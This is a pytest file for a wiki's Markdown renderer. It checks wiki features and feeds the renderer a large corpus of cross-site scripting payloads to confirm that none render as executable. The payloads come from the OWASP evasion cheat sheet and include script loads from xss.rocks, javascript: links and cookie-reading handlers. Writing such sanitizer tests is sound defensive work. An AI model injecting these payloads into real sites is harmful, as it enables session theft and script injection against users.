"""The rendering pipeline: wiki syntax comes out right, and no payload comes out executable."""
from __future__ import annotations

from html.parser import HTMLParser

import pytest

from cherclient_wiki.core.markup import ALLOWED_TAGS, render, render_document

# OWASP's XSS filter-evasion cheat sheet (each vector as a user could type it), then payloads
# aimed at Markdown itself: links, images, autolinks, references, wiki links, code, tables.
OWASP = [
    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('XSS');//",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<A HREF=\"http://0x42.0x0000066.0x7.0x93/\">XSS</A>",
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<details open ontoggle=alert(1)>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
]

MARKDOWN = [
    "[clic](javascript:alert(1))",
    "[clic](JaVaScRiPt:alert(1))",
    "[clic](&#106;avascript:alert(1))",
    "[clic](&#x6A;avascript:alert(1))",
    "[clic]( javascript:alert(1) )",
    "[clic](java\tscript:alert(1))",
    "[clic](vbscript:msgbox(1))",
    "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[clic](javascript:alert(1) \"titre\")",
    "[clic][ref]\n\n[ref]: javascript:alert(1)",
    "[clic][ref]\n\n[ref]: data:text/html,<script>alert(1)</script>",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x\" onerror=\"alert(1)](/uploads/a.png)",
    "![x](/uploads/a.png\" onerror=\"alert(1))",
    "[x](/wiki/a\" onmouseover=\"alert(1))",
    "[x](https://example.org \"t\" onmouseover=\"alert(1)\")",
    "[[javascript:alert(1)]]",
    "[[Page|<img src=x onerror=alert(1)>]]",
    "[[<script>alert(1)</script>]]",
    "[[Page\" onmouseover=\"alert(1)|x]]",
    "[[Catégorie:<script>alert(1)</script>]]",
    "# <script>alert(1)</script>\n\n[TOC]",
    "# Titre {onclick=alert(1)}",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "Texte[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    "> <iframe src=javascript:alert(1)></iframe>",
    "- <svg onload=alert(1)>\n- [a](javascript:alert(1))",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "<div markdown=\"1\"><script>alert(1)</script></div>",
    "[a](<javascript:alert(1)>)",
    "[a](https://example.org/?q=\"><script>alert(1)</script>)",
    "<https://example.org/\"onmouseover=\"alert(1)>",
    "[x]:javascript:alert(1)\n\n[x]",
    "~~~\n<script>alert(1)</script>\n~~~",
    "[clic](javascript&#58;alert(1))",
    "[clic](jav&#x09;ascript:alert(1))",
    "[clic](\\javascript:alert(1))",
    "[clic](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
    "![x][img]\n\n[img]: javascript:alert(1)",
    "[a](<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>)",
    "[a](https://example.org \"<script>alert(1)</script>\")",
    "*<img src=x onerror=alert(1)>*",
    "**[x](javascript:alert(1))**",
    "Texte[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: note",
    "# [x](javascript:alert(1))\n\n[TOC]",
    "[[Page|[x](javascript:alert(1))]]",
    "[![x](/uploads/a.png)](javascript:alert(1))",
    "<mailto:x@example.org?body=<script>alert(1)</script>>",
    "[x](mailto:&#106;avascript:alert(1))",
]

PAYLOADS = OWASP + MARKDOWN
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "action", "background"}:
                self.problems.append(f"attribute {name}")
            if name in {"href", "src"} and value is not None:
                # What a browser does (WHATWG URL): strip C0 controls and spaces at both ends,
                # drop tabs and newlines anywhere, compare the scheme case-insensitively.
                url = "".join(value.strip("".join(map(chr, range(0x21)))).split("\t")).replace("\n", "").replace("\r", "")
                if url.lower().startswith(DANGEROUS_SCHEMES):
                    self.problems.append(f"{name}={value}")


def executable_parts(html: str) -> list[str]:
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems


def test_the_corpus_is_large_enough() -> None:
    assert len(PAYLOADS) >= 60 and len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_comes_out_executable(payload: str) -> None:
    for source in (payload, f"Intro\n\n{payload}\n\nFin", f"- {payload}", f"> {payload}"):
        html = render(source)
        assert executable_parts(html) == [], (source, html)
        assert "<script" not in html.lower()


def test_raw_html_is_shown_as_text() -> None:
    assert render("<b>gras</b>") == "<p>&lt;b&gt;gras&lt;/b&gt;</p>"


def test_external_links_are_marked_as_user_content_and_external_images_dropped() -> None:
    html = render("[site](https://example.org) [page](/wiki/accueil) ![ext](https://example.org/a.png) ![ici](/uploads/a.png)")
    assert '<a href="https://example.org/" rel="nofollow ugc noopener">site</a>' in html  # as the browser resolves it
    assert '<a href="/wiki/accueil">page</a>' in html
    assert "example.org/a.png" not in html and 'src="/uploads/a.png"' in html


def test_markdown_features() -> None:
    html = render("# Un titre\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```python\nx = 1\n```\n\nNote[^n]\n\n[^n]: ici")
    assert '<h1 id="un-titre">Un titre</h1>' in html
    assert '<th align="left">a</th>' in html
    assert '<code class="language-python">' in html
    assert 'class="footnote-ref"' in html


def test_wiki_links_and_categories_are_collected() -> None:
    doc = render_document(
        "Voir [[Le centre d'appels idéal]], [[Accueil|la une]] et [[Écoute active#Reformuler|ici]].\n\n"
        "[[Catégorie:Service client]] [[categorie: Écoute ]]\n\n`[[pas un lien]]`"
    )
    assert '<a class="wikilink" href="/wiki/le-centre-d-appels-ideal">Le centre d\'appels idéal</a>' in doc.html
    assert '<a class="wikilink" href="/wiki/accueil">la une</a>' in doc.html
    assert 'href="/wiki/ecoute-active#reformuler"' in doc.html
    assert doc.links == {"le-centre-d-appels-ideal", "accueil", "ecoute-active"}
    assert doc.categories == ("Service client", "Écoute")
    assert "Catégorie" not in doc.html and "<p></p>" not in doc.html
    assert "<code>[[pas un lien]]</code>" in doc.html
